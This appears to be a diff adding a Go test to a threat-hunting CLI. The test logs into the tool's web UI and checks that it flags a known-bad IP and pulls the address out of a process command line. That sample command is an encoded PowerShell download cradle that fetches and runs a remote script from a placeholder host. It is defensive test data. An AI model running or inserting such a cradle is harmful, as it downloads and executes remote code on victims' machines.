@@ -3,11 +3,15 @@ package cli
 import (
 	"encoding/binary"
 	"encoding/json"
+	"io"
 	"net"
 	"net/http"
+	"net/http/cookiejar"
 	"net/http/httptest"
+	"net/url"
 	"os"
 	"path/filepath"
+	"regexp"
 	"slices"
 	"strings"
 	"testing"
@@ -213,5 +217,57 @@ func TestPivotRegistryCallable(t *testing.T) {
 	}
 	if code, _, errOut := runHunch(t, "", "pivot", "asn", "64500"); code != ExitUsage || !slices.ContainsFunc(pivot.Kinds, func(k string) bool { return strings.Contains(errOut, k) }) {
 		t.Errorf("unknown kind: %d %s", code, errOut)
+	}
+}
+
+// TestServePivotPages logs into hunch serve's web UI with an API key and runs pivots from an
+// entity page through the server's own runner: the verdict of an address, and a command line
+// decoded into the address it reaches, linked to its own page.
+func TestServePivotPages(t *testing.T) {
+	examples, _ := filepath.Abs("../../examples")
+	cfg := writeConfig(t, "enrich:\n  providers:\n    threatintel: {type: local, files: ["+examples+"/intel.csv], reliability: B}\n")
+	data := t.TempDir()
+	addr := freeAddr(t)
+	logs, stop := startServeEnv(t, data, addr, nil, "--config", cfg)
+	defer stop()
+	key := apiKeyFrom(t, logs.String())
+	jar, _ := cookiejar.New(nil)
+	c := &http.Client{Jar: jar}
+	base := "http://" + addr
+	res, err := c.Get(base + "/ui/login")
+	if err != nil {
+		t.Fatal(err)
+	}
+	page, _ := io.ReadAll(res.Body)
+	res.Body.Close()
+	m := regexp.MustCompile(`name="login_token" value="([^"]+)"`).FindSubmatch(page)
+	if m == nil {
+		t.Fatalf("no login token:\n%s", page)
+	}
+	res, err = c.PostForm(base+"/ui/login", url.Values{"login_token": {string(m[1])}, "apikey": {key}})
+	if err != nil || res.StatusCode != 200 {
+		t.Fatalf("login: %v %v", res.Status, err)
+	}
+	res.Body.Close()
+	get := func(path string) string {
+		t.Helper()
+		res, err := c.Get(base + path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer res.Body.Close()
+		b, _ := io.ReadAll(res.Body)
+		if res.StatusCode != 200 {
+			t.Fatalf("%s: %d\n%s", path, res.StatusCode, b)
+		}
+		return string(b)
+	}
+	if p := get("/ui/pivot/ip?value=198.51.100.23&function=lookup"); !strings.Contains(p, "malicious") || !strings.Contains(p, `id="pivot-count">1 record(s)`) {
+		t.Errorf("lookup page:\n%s", p)
+	}
+	cmd := "powershell.exe -NoP -enc " + encodedPowerShell("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')")
+	p := get("/ui/pivot/process?value=" + url.QueryEscape(cmd) + "&function=extract")
+	if !strings.Contains(p, `href="/ui/pivot/ip?value=198.51.100.23"`) {
+		t.Errorf("extract page does not link the address:\n%s", p)
 	}
 }
